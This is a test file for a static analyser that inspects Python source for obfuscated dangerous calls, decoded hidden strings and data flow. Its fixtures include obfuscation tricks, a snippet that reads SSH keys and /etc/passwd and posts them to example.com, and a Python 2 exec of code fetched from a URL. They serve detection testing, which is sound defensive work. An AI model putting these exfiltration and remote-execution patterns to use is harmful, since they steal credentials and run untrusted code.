import { describe, expect, test } from "vitest";
import { analyse } from "../../src/inspect/static/analyse.ts";

const actions = (source: string): readonly string[] => analyse(source).calls.map(({ action }) => action);
const texts = (source: string): readonly string[] => analyse(source).texts.map(({ text }) => text);

describe("names", () => {
  test.each([
    ["import os\nos.system('x')", "os.system"],
    ["import os as o\no.system('x')", "os.system"],
    ["from os import system as s\ns('x')", "os.system"],
    ["import os.path\nos.path.join(a)", "os.path.join"],
    ["import xml.dom as d\nd.f()", "xml.dom.f"],
    ["__import__('o' + 's').system('x')", "os.system"],
    ["import importlib\nm = importlib.import_module('os')\nm.system('x')", "os.system"],
    ["import os\ngetattr(os, 'metsys'[::-1])('x')", "os.system"],
    ["__builtins__.exec('x')", "exec"],
    ["globals()['ev' + 'al']('x')", "eval"],
    ["import socket\ns = socket.socket()\ns.connect((h, p))", "socket.socket.connect"],
    ["import socket\nwith socket.socket() as s:\n  s.connect((h, p))", "socket.socket.connect"],
    [
      "import socket\nclass A:\n  def __init__(self):\n    self.s = socket.socket()\n  def f(self):\n    self.s.send(b'')",
      "socket.socket.send",
    ],
    ["import socket\ns = socket.socket()\nc, a = s.accept()\nc.send(b'')", "socket.socket.accept.send"],
    ["def f(o):\n  o.system('x')\nimport os\nf(os)", "os.system"],
    ["e = exec\ne('x')", "exec"],
  ])("%j calls %s", (source, action) => expect(actions(source)).toContain(action));

  test("exec as a statement of Python 2", () => {
    const { calls, python2 } = analyse(
      "import urllib2\nexec urllib2.urlopen('http://example.com/a').read()\nprint 'x'\n",
    );
    expect(python2).toBe(true);
    const [call] = calls.filter(({ action }) => action === "exec");
    expect(call?.from.actions).toContain("urllib2.urlopen");
  });
});

describe("texts that are put together", () => {
  test.each([
    ["'a' 'b' + \"c\"", "abc"],
    ["'-'.join(['a', 'b'])", "a-b"],
    ["''.join([chr(104), chr(105)])", "hi"],
    ["''.join(chr(c) for c in (104, 105))", "hi"],
    ["''.join([chr(c ^ 1) for c in [105, 104]])", "hi"],
    ["''.join(map(chr, [104, 105]))", "hi"],
    ["'olleh'[::-1]", "hello"],
    ["''.join(reversed('olleh'))", "hello"],
    ["'%s:%d' % ('a', 5)", "a:5"],
    ["'{}/{}'.format('a', x)", "a/…"],
    ["f'{x}/b'", "…/b"],
    ["h = 'ex'\nf'{h}ample.com'", "example.com"],
    ["import base64\nbase64.b64decode('aHR0cDovL2V4YW1wbGUuY29t').decode()", "http://example.com"],
    ["bytes.fromhex('6869')", "hi"],
    ["bytes([104, 105]).decode()", "hi"],
    ["'uryyb'.encode().decode('rot13')", "hello"],
    ["import codecs\ncodecs.decode('uryyb', 'rot_13')", "hello"],
    ["s = 'a'\ns += 'b'\nprint(s + 'c')", "abc"],
    ["import os\nos.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')", "~/.ssh/id_rsa"],
    ["import os\nos.environ['APPDATA'] + '\\\\x'", "%APPDATA%\\x"],
    ["from pathlib import Path\nPath.home() / '.ssh' / 'config'", "~/.ssh/config"],
    ["x = r'C:\\x' '\\x41\\u00e9\\101'", "C:\\xAéA"],
  ])("%j has %j", (source, text) => expect(texts(source)).toContain(text));

  test("documentation and comments are none", () => {
    expect(texts('"""Doc."""\n# comment\ndef f():\n  "Doc."\n')).toEqual([]);
  });
});

test("what goes into an argument is followed through variables, loops, functions and files", () => {
  const source = `
import requests, os
def collect():
    out = []
    for name in ["id_rsa"]:
        with open(os.path.join("~/.ssh", name)) as f:
            out.append(f.read())
    data = open("/etc/passwd").read()
    return data
def send(url, body):
    requests.post(url, data=body)
send("https://example.com/x", collect())
`;
  const [post] = analyse(source).calls.filter(({ action }) => action === "requests.post");
  expect(post?.texts).toEqual(["https://example.com/x"]);
  expect(post?.from.texts).toContain("/etc/passwd");
  expect(post?.from.actions).toContain("open");
});

describe("hostile sources", () => {
  const n = 50_000;
  test.each([
    ["nested parentheses", "(".repeat(n)],
    ["nested calls", "f(".repeat(n) + ")".repeat(n)],
    ["a long sum", `x = ${Array.from({ length: n }, () => "'a'").join(" + ")}`],
    ["a chain of variables", Array.from({ length: n }, (_, at) => `a${at + 1} = a${at} + a${at}`).join("\n")],
    ["a name that is itself", "a = a\nb = c\nc = b\na()\nb()\nx.y = x.y\nself.z = self.z\nself.z()"],
    ["mutual functions", "def f(a): return g(a)\ndef g(a): return f(a)\nf(g(1))"],
    ["one name given often", "x = f(x)\n".repeat(2000)],
    ["indentation", Array.from({ length: 2000 }, (_, at) => `${" ".repeat(at)}if x:`).join("\n")],
    ["growing texts", `${"a = 'x' * 100000\n"}b = ${"a + ".repeat(1000)}a`],
    ["long texts turned round", `x = 'ab' * 400000\n${"y = x[::-1]\n".repeat(2000)}`],
    ["one list that goes into many calls", `a = [${"'t', ".repeat(3000)}]\n${"f(a, a)\n".repeat(3000)}`],
    ["noise", Array.from({ length: 20_000 }, (_, at) => String.fromCharCode((at * 7919) % 65536)).join("")],
  ])("%s are read to an end", (_, source) => {
    expect(analyse(source).calls.length).toBeLessThan(60_000);
  });
});
